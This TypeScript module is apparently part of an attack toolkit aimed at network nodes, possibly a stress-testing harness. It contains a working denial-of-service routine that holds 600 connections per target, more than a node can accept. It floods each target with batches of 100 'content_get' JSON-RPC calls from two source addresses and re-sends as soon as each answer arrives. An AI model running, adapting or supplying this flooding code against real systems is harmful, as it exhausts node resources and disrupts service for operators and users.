/** Batches of `content_get` on more connections than a node has room for. */
import { type Stage, TWO_ADDRESSES } from './attack.ts';
import { callOf, headOf, keepSockets, onEach } from './http.ts';

/** More than a node has room for. */
export const CONNECTIONS = 600;
/** The calls of a batch: as many as a node takes. */
export const CALLS = 100;

/** @param roots - in hex */
export const getBatch = (roots: readonly string[]): string =>
  `[${roots.map((root) => callOf('content_get', `{"root":"${root}"}`)).join(',')}]`;

/** Sends a batch on each connection, from two addresses, and the next one when it is answered. Returns the bytes sent. */
export const askAgain = ({ targets }: Stage, batch: () => string, signal: AbortSignal): Promise<number> =>
  onEach(targets, (target) =>
    keepSockets(
      target,
      CONNECTIONS,
      async (socket, gone) => {
        let sent = 0;
        const ask = (): void => {
          const body = batch();
          const request = `${headOf(body.length)}${body}`;
          sent += request.length;
          socket.write(request);
        };
        ask();
        // Its answer ends with the last of the batch, and is followed by the next question.
        socket.on('data', (data: Buffer) => {
          if (data.includes('}]')) ask();
        });
        await new Promise((resolve) => gone.addEventListener('abort', resolve, { once: true }));
        return sent;
      },
      signal,
      TWO_ADDRESSES,
    ),
  );
